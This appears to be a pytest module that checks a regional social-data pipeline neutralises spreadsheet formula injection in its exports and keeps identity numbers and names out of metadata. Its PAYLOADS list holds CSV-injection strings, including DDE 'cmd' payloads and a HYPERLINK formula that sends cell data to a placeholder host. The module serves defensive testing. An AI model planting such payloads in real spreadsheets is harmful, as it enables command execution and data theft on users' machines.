"""Free text from the regencies stays data, and `meta` keeps no NIK, KK or name (issue 28, points 5 and 6).

Every free-text column of every jenis carries values a spreadsheet would run as formulas (`=`, `+`, `-`, `@`,
tab-, CR- and LF-led); some rows are bad and carry NIKs, KKs and names where a validation issue shows them.
The files go through intake, harmonisation, convergence and publication (exports and report) on both
warehouses; then every CSV the run wrote is read (no cell may start a formula), the XLSX exports are opened (no
formula cell) and every table of `meta` is scanned (no run of 12+ digits, no resident's name).
"""

from __future__ import annotations

import csv
import re
from decimal import Decimal

import openpyxl
import pytest
from satudata.config import Settings
from satudata.intake.run import IntakeOptions
from satudata.pipeline import harmonise, ingest_once, konvergensi, publish
from satudata.warehouse.engine import make_engine, read_frame
from satudata.warehouse.fingerprint import tables

from tests.builders import DESA, KAB, nik, query_rows, write_xlsx
from tests.harmonise.test_dtsen import ANGGOTA, KELUARGA
from tests.harmonise.test_run import DTKS, P3KE_ANGGOTA, P3KE_KELUARGA

# the published warehouse of each engine is built once for the module's tests: they stay on one worker
pytestmark = [pytest.mark.timeout(900), pytest.mark.xdist_group("publish/test_untrusted_text")]

PERIODE = "2026-11"
PAYLOADS = ['=HYPERLINK("http://contoh.test/?d="&B2,"Klik")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2", "\n=1+2"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")  # OWASP: what a spreadsheet runs, or strips and runs
PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
# bad rows: the resident's numbers and name are what a validation issue would show
BAD_NIK = "520501050760001"  # 15 digits
BAD_KK = "52050101012000011"  # 17 digits
RESIDENTS = ["Ketut Rai Sudana", "Made Wirawan Putra", "Gede Santika Jaya", "Komang Ayu Lestari", "Baiq Nurhayati",
             "Wayan Sukerta Adi", "Lalu Ahmad", "Siti Aminah", "Amaq Sahnan", "Zainal Abidin", "Inaq Rahmah"]


def _payload(i: int) -> str:
    return PAYLOADS[i % len(PAYLOADS)]


def _dtks() -> tuple[list[str], list[list[str]]]:
    header = ["id_dtks", "kode_desa", "alamat", "no_kk", "nik", "nama", "jenis_kelamin", "tanggal_lahir",
              "hubungan_keluarga", "tempat_lahir", "status_kawin", "pekerjaan", "disabilitas"]
    rows = [[i_d, desa, _payload(i), kk, n, nama if i != 3 else _payload(i), jk, lahir, hub,
             _payload(i + 1), _payload(i + 2), _payload(i + 3), _payload(i + 4)]
            for i, (i_d, desa, _, kk, n, nama, jk, lahir, hub) in enumerate(DTKS)]
    kk, born = DTKS[0][3], "10-10-1970"
    rows += [
        ["D090", DESA[0], "Dusun Satu", kk, BAD_NIK, RESIDENTS[0], "L", born, "Anak", "Dompu", "", "", ""],
        ["D091", DESA[0], "Dusun Satu", kk, DTKS[0][4], RESIDENTS[1], "L", born, "Anak", "Dompu", "", "", ""],
        ["D092", DESA[0], "Dusun Satu", BAD_KK, nik(3, 3, 1971, 77, False), RESIDENTS[2], "L", "03-03-1971", "Anak",
         "Dompu", "", "", ""],
        ["D093", DESA[0], "Dusun Satu", kk, RESIDENTS[3], RESIDENTS[3], "P", born, "Anak", "Dompu", "", "", ""],
        ["D094", DESA[0], "Dusun Satu", kk, nik(4, 4, 1972, 78, False), "5205011001200099", "L", "04-04-1972", "Anak",
         "Dompu", "", "", ""],
    ]
    return header, rows


def _p3ke() -> dict:
    keluarga = [["ID Keluarga P3KE", "Kode Desa", "Alamat", "No KK", "NIK Kepala Keluarga", "Nama Kepala Keluarga",
                 "Desil", "Jumlah Anggota"],
                [[k, desa, _payload(i), kk, n, nama, desil, jumlah]
                 for i, (k, desa, _, kk, n, nama, desil, jumlah) in enumerate(P3KE_KELUARGA)]]
    anggota = [["ID Keluarga P3KE", "ID Individu", "NIK", "Nama", "Jenis Kelamin", "Tanggal Lahir",
                "Hubungan Keluarga", "Tempat Lahir", "Status Kawin", "Pekerjaan", "Disabilitas"],
               [[*row, _payload(i), _payload(i + 1), _payload(i + 2), _payload(i + 3)]
                for i, row in enumerate(P3KE_ANGGOTA)]
               + [["K001", "I090", "52050105076", RESIDENTS[4], "P", "05-07-1990", "Anak", "Dompu", "", "", ""]]]
    return {"Keluarga": tuple(keluarga), "Anggota Keluarga": tuple(anggota)}


def _dtsen() -> dict:
    keluarga = [["id_keluarga_dtsen", "kode_desa", "alamat", "nomor_kartu_keluarga", "nik_kepala_keluarga",
                 "nama_kepala_keluarga", "desil_nasional", "desil_provinsi", "desil_kabupaten_kota"],
                [[s, desa, _payload(i), kk, n, nama, *desil] for i, (s, desa, kk, n, nama, *desil) in enumerate(KELUARGA)]]
    anggota = [["id_keluarga_dtsen", "id_individu_dtsen", "nomor_induk_kependudukan", "nama", "jenis_kelamin",
                "tanggal_lahir", "hubungan_keluarga", "tempat_lahir", "status_kawin", "pekerjaan", "disabilitas"],
               [[*row, _payload(i + 1), _payload(i + 2), _payload(i + 3), _payload(i + 4)]
                for i, row in enumerate(ANGGOTA)]]
    return {"Keluarga": tuple(keluarga), "Anggota Keluarga": tuple(anggota)}


def _intervensi() -> tuple[list[str], list[list[str]]]:
    header = ["kode_program", "nik", "no_kk", "nama", "tanggal_lahir", "kode_desa", "alamat", "nilai_bantuan",
              "tanggal_salur"]
    rows = [["PKH", n, kk, nama if i != 2 else _payload(i), lahir, desa, _payload(i), "750000", "15-11-2026"]
            for i, (_, desa, _, kk, n, nama, _, lahir, _) in enumerate(DTKS[:6])]
    rows.append(["PKH", "5205010507600", "", RESIDENTS[5], "05-07-1960", DESA[0], "Dusun", "750000", "15-11-2026"])
    return header, rows


def _anggaran() -> tuple[list[str], list[list[str]]]:
    header = ["tahun_anggaran", "kode_skpd", "nama_skpd", "kode_program_apbd", "nama_program_apbd", "kode_giat",
              "nama_giat", "kode_sub_giat", "nama_sub_giat", "nama_dana", "pagu", "kelompok_teks", "strategi_teks",
              "kode_desa"]
    rows = [["2026", f"1.06.0.00.0.00.01.000{i}", _payload(i), "1.06.04", _payload(i + 1), "1.06.04.2.01",
             _payload(i + 2), f"1.06.04.2.01.000{i + 1}", _payload(i + 3), _payload(i + 4), f"{(i + 1) * 1_000_000}",
             _payload(i + 5), _payload(i + 6), DESA[i % len(DESA)]] for i in range(len(PAYLOADS))]
    return header, rows


@pytest.fixture(scope="module", params=["duckdb", "postgresql"])
def published(request, tmp_path_factory) -> Settings:
    """One run of every stage per engine, shared by the module's tests (each only reads what it wrote)."""
    import shutil

    from tests.conftest import _create_database, _drop_database, _pg_url

    tmp_path = tmp_path_factory.mktemp(f"untrusted-{request.param}")
    if request.param == "duckdb":
        shutil.copyfile(request.getfixturevalue("_duckdb_template"), tmp_path / "warehouse.duckdb")
        warehouse_url = f"duckdb:///{tmp_path / 'warehouse.duckdb'}"
    else:
        name = _create_database(template=request.getfixturevalue("_pg_template"))
        request.addfinalizer(lambda: _drop_database(name))
        warehouse_url = _pg_url(name)
    settings = Settings(data_dir=tmp_path / "data", warehouse_url=warehouse_url)
    settings.ensure_folders()
    inbox = settings.folder("inbox") / KAB
    write_xlsx(inbox / "dtks" / f"dtks_{KAB}_{PERIODE}.xlsx", {"Data": _dtks()})
    write_xlsx(inbox / "p3ke" / f"p3ke_{KAB}_{PERIODE}.xlsx", _p3ke())
    write_xlsx(inbox / "dtsen" / f"dtsen_{KAB}_{PERIODE}.xlsx", _dtsen())
    write_xlsx(inbox / "intervensi" / f"PKH_{KAB}_{PERIODE}.xlsx", {"Data": _intervensi()})
    write_xlsx(inbox / "anggaran" / f"anggaran_{KAB}_{PERIODE}.xlsx", {"Sub Kegiatan": _anggaran()})
    summary = ingest_once(settings, options=IntakeOptions(stable_seconds=0, max_rejected_share=0.9))
    assert set(summary["by_status"]) <= {"accepted", "partial"} and sum(summary["by_status"].values()) == 5, summary
    harmonise(PERIODE, settings)
    konvergensi(PERIODE, settings)
    publish(PERIODE, settings=settings, disetujui_oleh="walidata", cara_persetujuan="cli", run_id="uji")
    return settings


def _is_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(cell)


def test_the_exports_never_run_a_formula_and_keep_the_text_as_text(published):
    settings = published
    written = [p for p in settings.data_dir.rglob("*.csv")
               if not {"inbox", "archive"} & set(p.relative_to(settings.data_dir).parts)]
    assert any(p.name == "anggaran.csv" for p in written)
    quoted = set()
    for path in written:
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert not _is_formula(cell), (str(path), cell)
                    if cell.startswith("'"):
                        quoted.add(cell[1:])
    # the OPD names reach mart as the regencies wrote them (text, stripped), and the CSV quotes them
    texts = {p.strip() for p in PAYLOADS}
    stored = {r[0] for r in query_rows(settings.warehouse_url, "SELECT nama_skpd FROM mart.anggaran "
                                                                "WHERE nama_skpd IS NOT NULL")}
    assert texts <= stored and texts <= quoted
    # negative amounts and other plain numbers are never quoted: a number stays a number
    assert not any(PLAIN_NUMBER.fullmatch(cell) for cell in quoted)

    # the XLSX twins hold the same text as text cells, never as formulas
    folder = next(p for p in written if p.name == "anggaran.csv").parent
    seen = set()
    for path in folder.glob("*.xlsx"):
        for sheet in openpyxl.load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        seen.add(cell.value)
    assert texts <= seen


def _meta_text(url: str) -> dict[str, list[str]]:
    engine = make_engine(url)
    out: dict[str, list[str]] = {}
    try:
        with engine.connect() as conn:
            for table in tables(conn, ("meta",)):
                frame = read_frame(conn, f"SELECT * FROM {table}")
                for column in frame.columns:
                    values = [v.decode("latin-1") if isinstance(v, bytes | memoryview) and not isinstance(v, str)
                              else str(v) for v in frame[column].dropna()]
                    out[f"{table}.{column}"] = values
    finally:
        engine.dispose()
    return out


def test_meta_holds_no_nik_kk_or_name(published):
    numbers = {BAD_NIK, BAD_KK, "5205011001200099", *(r[3] for r in DTKS), *(r[4] for r in DTKS)}
    found = []
    for where, values in _meta_text(published.warehouse_url).items():
        for text in values:
            digits = re.sub(r"[0-9a-f]{32,}", "", text)  # content hashes (sha256) are not personal numbers
            if re.search(r"(?<![0-9.])[0-9]{12,}", digits) or any(n in text for n in numbers):
                found.append((where, text[:200]))
            letters = re.sub(r"[^a-z]", "", text.lower())  # "KomangAyuLestari": a NIK cell's words joined
            if any(re.sub(r"[^a-z]", "", name.lower()) in letters for name in RESIDENTS):
                found.append((where, text[:200]))
    assert not found, found
    # the operator still finds the row: row number, column, rule and the masked value
    issues = query_rows(published.warehouse_url, "SELECT kolom, aturan, nilai FROM meta.validation_issue "
                                                 "WHERE kolom IN ('nik', 'no_kk') AND nilai IS NOT NULL")
    assert ("nik", "nik_ganda", f"{DTKS[0][4][:4]}********{DTKS[0][4][-4:]}") in issues
    assert ("no_kk", f"{BAD_KK[:4]}*********{BAD_KK[-4:]}") in {(k, v) for k, _, v in issues}
    # a name typed in the NIK column keeps its initials only (intake joins a NIK cell's words first)
    assert any(k == "nik" and v.startswith("K.") and "omang" not in v for k, _, v in issues)


def test_the_link_command_writes_ids_that_never_run_as_formulas(tmp_path):
    from satudata.cli import main

    people = [(f"=HYPERLINK(\"x\",\"{i}\")" if i % 3 == 0 else f"-{i}" if i % 3 == 1 else f"@{i}", r)
              for i, r in enumerate(DTKS)]
    header = "id,nik,no_kk,nama,tanggal_lahir,jenis_kelamin,kode_desa,alamat\n"
    for side in ("kiri", "kanan"):
        lines = [",".join(['"' + pid.replace('"', '""') + '"', r[4], r[3], r[5], r[7], r[6], r[1], "Dompu"])
                 for pid, r in people]
        (tmp_path / f"{side}.csv").write_text(header + "\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "pasangan.csv"
    assert main(["link", str(tmp_path / "kiri.csv"), str(tmp_path / "kanan.csv"), "--out", str(out)]) == 0
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(people)
    for row in rows:
        for cell in row.values():
            assert not _is_formula(cell), cell
    ids = {row["left_id"] for row in rows}
    assert "-1" in ids and "'@2" in ids and "'=HYPERLINK(\"x\",\"0\")" in ids


def test_neutralising_leaves_numbers_alone():
    import pandas as pd
    from satudata.fileio import neutralise_formulas

    frame = pd.DataFrame({"teks": ["=1+1", "-5000000", "+62", "-", "Dinas Sosial", None],
                          "angka": [-1.5, -2.0, 3.0, 0.0, 1.0, None],
                          "rupiah": [Decimal("-5.00")] * 6})
    out = neutralise_formulas(frame)
    assert out["teks"].tolist()[:5] == ["'=1+1", "-5000000", "+62", "'-", "Dinas Sosial"]
    assert out["angka"].equals(frame["angka"]) and out["rupiah"].equals(frame["rupiah"])
